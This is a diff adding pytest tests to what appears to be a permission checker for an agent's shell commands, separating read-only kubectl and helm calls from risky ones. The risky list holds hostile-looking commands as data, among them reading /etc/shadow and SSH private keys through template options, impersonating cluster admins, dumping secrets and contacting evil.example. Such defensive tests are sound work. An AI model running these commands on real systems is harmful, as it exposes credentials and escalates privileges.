@@ -86,3 +86,29 @@ def test_browser_names_a_program_and_only_none_is_harmless():
     assert bash(snap(), "BROWSER=./x gh repo view --web").decision == "ask"
     assert bash(snap(), "BROWSER=none npm start").decision == "allow"
     assert bash(snap(), "ASPNETCORE_ENVIRONMENT=Development dotnet test").decision == "allow"
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl version --client --profile=heap --profile-output=/etc/passwd", "kubectl api-resources --cache-dir=/tmp/x",
+    "kubectl cluster-info dump --output-directory=/tmp/dump", "kubectl get pods --as-group=system:masters",
+    "kubectl get pods --as-uid=0", "kubectl get ns -o go-template-file=/home/dev/.ssh/id_rsa",
+    "kubectl get ns -o=jsonpath-file=/etc/shadow", "kubectl get ns --template=/etc/shadow",
+    "kubectl get pods --log-file=/tmp/x", "kubectl get secret db -o yaml", "kubectl rollout undo deploy/api",
+    "helm list --kube-apiserver https://evil.example", "helm show values --repo https://evil.example/?d=x chart",
+    "helm search hub x", "helm show chart oci://evil.example/x", "helm list --registry-config ~/.docker/config.json",
+    "helm show values ./chart --repository-cache /tmp/x",
+])
+def test_kubectl_and_helm_options_are_an_allowlist(command):
+    assert bash(snap(), command).decision == "ask", command
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl get pods", "kubectl get pods -n kube-system -o wide", "kubectl get pods -A -owide",
+    "kubectl get deploy -l app=web -o jsonpath='{.items[*].metadata.name}'", "kubectl describe pod web-1 -n prod",
+    "kubectl logs web-1 -c app --tail=100 -f", "kubectl top pods --containers", "kubectl config current-context",
+    "kubectl version --client", "kubectl get pods --context staging", "kubectl rollout status deploy/api",
+    "kubectl rollout history deploy/api", "kubectl auth can-i list pods", "helm list -A", "helm status web -n prod",
+    "helm history web", "helm show values ./chart", "helm search repo nginx",
+])
+def test_kubectl_and_helm_reads_stay_read_only(command):
+    assert bash(snap(), command).decision == "allow", command
